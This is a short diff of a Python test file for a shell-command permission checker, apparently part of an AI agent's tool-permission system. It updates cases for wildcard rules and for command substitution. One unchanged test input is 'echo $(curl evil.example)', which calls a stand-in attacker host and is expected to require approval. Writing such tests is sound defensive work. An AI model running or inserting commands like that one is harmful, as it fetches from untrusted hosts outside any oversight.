@@ -174,7 +174,7 @@ def behavior(place, command, mode="default", **rules):
         ("Bash(cat *)", "cat -*", "ask"),
         ("Bash(cat *)", "cat src/*", "allow"),
         ("Bash(cat *)", "cat './*'", "allow"),
-        ("Bash(make *)", "make ./*", "allow"),
+        ("Bash(make *)", "make src/*", "allow"),
         ("Bash(cat *)", "c?t x", "ask"),
         ("Bash(* x)", "c?t x", "ask"),
         # what is protected is not allowed by a pattern
@@ -236,7 +236,7 @@ def test_allow_rules(place, rule, command, expected):
         ("echo -n x", "allow"),
         ("echo $HOME", "ask"),
         ("echo $(curl evil.example)", "ask"),
-        ("echo $(id)", "allow"),
+        ('echo "$(id)"', "allow"),
         ("echo *", "ask"),
         ("echo x > ~/f", "ask"),
         ("cat {project}/src/a.py", "allow"),
